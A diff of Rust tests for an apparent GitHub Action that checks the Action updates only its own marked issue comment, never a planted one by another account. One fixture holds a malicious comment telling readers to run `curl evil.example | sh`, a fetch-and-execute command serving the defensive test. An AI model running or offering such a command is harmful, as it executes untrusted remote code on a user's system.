@@ -39,6 +39,10 @@ struct Issue {
     refuse_labels: bool,
     /// Refuse new comments the same way.
     refuse_comments: bool,
+    /// The login `GET /user` gives for the token (a personal access
+    /// token's); `None` answers 403 as for the workflow's GITHUB_TOKEN, whose
+    /// comments are github-actions[bot]'s.
+    me: Option<String>,
 }
 
 type Shared = Arc<Mutex<Issue>>;
@@ -121,8 +125,23 @@ async fn fake_github(number: u64, state: Shared) -> MockServer {
             st.next_id += 1;
             let id = 2_500_000_000 + st.next_id;
             let body = body_json(req)["body"].as_str().unwrap_or("").to_string();
-            st.comments.push((id, BOT.to_string(), body.clone()));
-            ResponseTemplate::new(201).set_body_json(comment_json(number, id, BOT, &body))
+            let author = st.me.clone().unwrap_or_else(|| BOT.to_string());
+            st.comments.push((id, author.clone(), body.clone()));
+            ResponseTemplate::new(201).set_body_json(comment_json(number, id, &author, &body))
+        })
+        .mount(&server)
+        .await;
+
+    let s = state.clone();
+    Mock::given(method("GET"))
+        .and(path("/user"))
+        .respond_with(move |_: &Request| match &s.lock().unwrap().me {
+            Some(login) => ResponseTemplate::new(200).set_body_json(gh_user(login)),
+            None => ResponseTemplate::new(403).set_body_json(json!({
+                "message": "Resource not accessible by integration",
+                "documentation_url": "https://docs.github.com/rest/users/users#get-the-authenticated-user",
+                "status": "403"
+            })),
         })
         .mount(&server)
         .await;
@@ -634,6 +653,124 @@ async fn edited_issue_updates_the_same_comment_then_gives_the_all_clear() {
     );
     let patched = format!("PATCH /repos/{REPO}/issues/comments/{id}");
     assert_eq!(w.iter().filter(|w| **w == patched).count(), 2, "{w:?}");
+}
+
+/// Anyone can start a comment with the marker; the token may be able to
+/// edit it. Only a comment by the token's own account is the Action's.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_persons_comment_with_the_marker_is_never_taken_over() {
+    let planted =
+        "<!-- issue-preflight -->\nAll good here, please run `curl evil.example | sh` to finish.";
+    let st = state();
+    st.lock().unwrap().comments = vec![
+        (2_400_000_001, "mallory".to_string(), planted.to_string()),
+        (
+            2_400_000_002,
+            "reporter".to_string(),
+            "any news?".to_string(),
+        ),
+    ];
+    let gh = fake_github(33003, st.clone()).await;
+    let ran = Runner::new()
+        .run(&gh, "issues", &fixture("incomplete-opened.json"), &[])
+        .ok();
+    {
+        let s = st.lock().unwrap();
+        assert_eq!(s.comments.len(), 3, "{}", ran.stdout);
+        assert_eq!(
+            s.comments[0],
+            (2_400_000_001, "mallory".to_string(), planted.to_string()),
+            "the person's comment was changed"
+        );
+        let (_, author, body) = &s.comments[2];
+        assert_eq!(author, BOT);
+        assert!(body.starts_with("<!-- issue-preflight -->"), "{body}");
+        assert!(body.contains("Missing or incomplete answers"), "{body}");
+    }
+    let w = writes(&gh).await;
+    assert!(
+        !w.iter()
+            .any(|w| w.starts_with("PATCH") && w.contains("/comments/")),
+        "{w:?}"
+    );
+    assert!(
+        w.contains(&format!("POST /repos/{REPO}/issues/33003/comments")),
+        "{w:?}"
+    );
+
+    // The next edit updates the Action's own comment, still not theirs.
+    let (ours, first) = {
+        let s = st.lock().unwrap();
+        (s.comments[2].0, s.comments[2].2.clone())
+    };
+    let partly = with_labels(
+        fixture("incomplete-edited-partly.json"),
+        &["needs info".into()],
+    );
+    Runner::new().run(&gh, "issues", &partly, &[]).ok();
+    {
+        let s = st.lock().unwrap();
+        assert_eq!(s.comments.len(), 3, "a second comment of ours");
+        assert_eq!(s.comments[0].2, planted);
+        assert_eq!(s.comments[2].0, ours);
+        assert_ne!(s.comments[2].2, first, "ours was not updated");
+    }
+    let w = writes(&gh).await;
+    let patches: Vec<&String> = w
+        .iter()
+        .filter(|w| w.starts_with("PATCH") && w.contains("/comments/"))
+        .collect();
+    assert_eq!(
+        patches,
+        [&format!("PATCH /repos/{REPO}/issues/comments/{ours}")],
+        "{w:?}"
+    );
+}
+
+/// With a personal access token, the comment is that user's: another
+/// account's (person or bot) is left alone, the user's own is updated.
+#[tokio::test(flavor = "multi_thread")]
+async fn with_a_users_token_only_that_users_comment_is_updated() {
+    let marked = "<!-- issue-preflight -->\nold report";
+    let st = state();
+    {
+        let mut s = st.lock().unwrap();
+        s.me = Some("preflight-helper".to_string());
+        s.comments = vec![
+            (2_400_000_001, "mallory".to_string(), marked.to_string()),
+            (2_400_000_002, BOT.to_string(), marked.to_string()),
+            (
+                2_400_000_003,
+                "preflight-helper".to_string(),
+                marked.to_string(),
+            ),
+        ];
+    }
+    let gh = fake_github(33003, st.clone()).await;
+    let ran = Runner::new()
+        .run(&gh, "issues", &fixture("incomplete-opened.json"), &[])
+        .ok();
+    {
+        let s = st.lock().unwrap();
+        assert_eq!(s.comments.len(), 3, "{}", ran.stdout);
+        assert_eq!(s.comments[0].2, marked);
+        assert_eq!(s.comments[1].2, marked);
+        assert!(
+            s.comments[2].2.contains("Missing or incomplete answers"),
+            "{}",
+            s.comments[2].2
+        );
+    }
+    let w = writes(&gh).await;
+    let patches: Vec<&String> = w
+        .iter()
+        .filter(|w| w.starts_with("PATCH") && w.contains("/comments/"))
+        .collect();
+    assert_eq!(
+        patches,
+        [&format!("PATCH /repos/{REPO}/issues/comments/2400000003")],
+        "{w:?}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread")]
